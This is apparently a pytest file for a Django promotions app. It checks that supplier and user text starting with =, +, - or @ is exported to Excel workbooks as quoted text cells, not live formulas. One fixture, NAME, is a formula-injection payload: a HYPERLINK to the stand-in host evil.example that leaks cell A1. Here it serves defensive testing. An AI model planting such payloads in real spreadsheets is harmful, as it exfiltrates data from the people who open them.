"""Text a supplier or a user wrote comes out of every .xlsx download as text: a promo name,
comment, reason, product name or person name that starts with =, +, -, @ is a string
cell with the text unchanged (and the quote prefix, so Excel keeps it text even when the cell
is edited), never a formula. The downloads: the error workbook (page and API), the template's
product sheet and example row, the activity log."""

from __future__ import annotations

import io
from datetime import date, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from config.spreadsheets import formula_like, xlsx_text
from promo.models import PromoUpload
from promo.services.comments import comment_add
from promo.services.transitions import promo_reject, promo_submit
from suppliers.models import Product, Supplier
from tests.factories import PromoFactory, PromoLineFactory
from tests.promo.imports.sheets import HEADER

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
COMMENT = "+7 913 000-00-00 =1+1"
PRODUCT = "@SUM(1+1) шампунь"
REASON = "-2+3 скидка не по плану"
PERSON = "@Иванов"


def workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def cells_with(book, texts: set[str]) -> dict[str, list]:
    """Every cell of ``book`` whose value is one of ``texts`` (or, for a formula cell, whose
    formula is), by text."""
    found: dict[str, list] = {text: [] for text in texts}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in texts:
                    found[cell.value].append(cell)
    return found


def assert_text_cells(book, texts: set[str]) -> None:
    found = cells_with(book, texts)
    for text, cells in found.items():
        assert cells, f"{text!r} is not in the workbook"
        for cell in cells:
            assert cell.data_type == "s", (text, cell.coordinate, cell.data_type)
            assert cell.value == text
            assert cell.quotePrefix, (text, cell.coordinate)


def sheet_with_text(rows: list[dict]) -> bytes:
    """A promo sheet as a supplier's Excel saves text typed with a leading apostrophe: string
    cells, whatever they start with."""
    book = Workbook()
    sheet = book.active
    sheet.title = "Акции"
    sheet.append(HEADER)
    for row in rows:
        sheet.append([xlsx_text(sheet.cell(row=sheet.max_row + 1, column=index + 1, value=row.get(title)))
                      if isinstance(row.get(title), str) else row.get(title)
                      for index, title in enumerate(HEADER)])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_the_helper_is_what_the_writers_rely_on():
    # given openpyxl's own behaviour: a string starting with "=" becomes a formula cell
    sheet = Workbook(write_only=True).create_sheet()
    assert WriteOnlyCell(sheet, value=NAME).data_type == "f"
    # when it goes through xlsx_text, then it is a string cell
    assert xlsx_text(WriteOnlyCell(sheet, value=NAME)).data_type == "s"
    assert all(formula_like(text) for text in (NAME, COMMENT, PRODUCT, REASON, PERSON))


def test_the_error_workbook_keeps_the_suppliers_text(client_for, api_client, demo_user):
    # given s001's sheet with a formula-like promo name, comment and product name, and an error
    product = Product.objects.filter(supplier__code="S001").order_by("article").first()
    row = {"Название акции": NAME, "Артикул": product.article, "Штрихкод": product.ean,
           "Наименование": PRODUCT, "Механика": "Скидка %", "Скидка, %": 150,
           "Начало": date(2027, 3, 1), "Окончание": date(2027, 3, 14), "Филиалы": "Все", "Комментарий": COMMENT}
    content = sheet_with_text([row])
    client = client_for("s001")
    response = client.post(reverse("promo:upload_create"), {"file": SimpleUploadedFile("promo.xlsx", content)})
    assert response.status_code in (200, 302, 400)
    upload = PromoUpload.objects.get()
    assert upload.status == PromoUpload.Status.REJECTED

    # when s001 downloads the error workbook from the page and through the API
    page = client.get(reverse("promo:upload_error_workbook", args=[upload.pk]))
    api_client.force_authenticate(demo_user("s001"))
    api = api_client.get(f"/api/v1/uploads/{upload.pk}/error-workbook/")

    # then in both the three texts are text cells, as written
    for download in (page, api):
        assert download.status_code == 200
        assert_text_cells(workbook(body(download)), {NAME, COMMENT, PRODUCT})


def test_the_template_keeps_product_names_as_text(client_for):
    # given a product of S001 whose catalogue name looks like a formula (the first one: the
    # template's example row uses it too)
    product = Product.objects.filter(supplier__code="S001", active=True).order_by("article").first()
    product.name = NAME
    product.save()

    # when s001 downloads the template
    response = client_for("s001").get(reverse("promo:template_download"))

    # then the name is a text cell in «Мои товары» and in the example row of «Акции»
    book = workbook(body(response))
    cells = cells_with(book, {NAME})[NAME]
    assert {cell.parent.title for cell in cells} == {"Акции", "Мои товары"}
    assert_text_cells(book, {NAME})


def test_the_activity_log_keeps_comments_reasons_and_names_as_text(client_for, demo_user):
    # given a person with a formula-like name, a promo submitted with a formula-like comment,
    # commented, and rejected with a formula-like reason
    supplier = Supplier.objects.get(code="S001")
    s001 = demo_user("s001")
    s001.first_name, s001.last_name = PERSON, ""
    s001.save()
    promo = PromoFactory(supplier=supplier, name=NAME, start=date.today() + timedelta(days=30))
    PromoLineFactory(promo=promo, product=Product.objects.filter(supplier=supplier).first())
    promo_submit(promo=promo, actor=s001, comment=COMMENT)
    comment_add(promo=promo, actor=s001, text=NAME)
    promo_reject(promo=promo, actor=demo_user("manager"), reason=REASON)

    # when the marketer downloads the activity log
    response = client_for("marketer").get(reverse("promo:activity_log"), {"format": "xlsx"})

    # then every one of those texts is a text cell, as written
    assert response.status_code == 200
    assert_text_cells(workbook(body(response)), {COMMENT, REASON, NAME, PERSON})
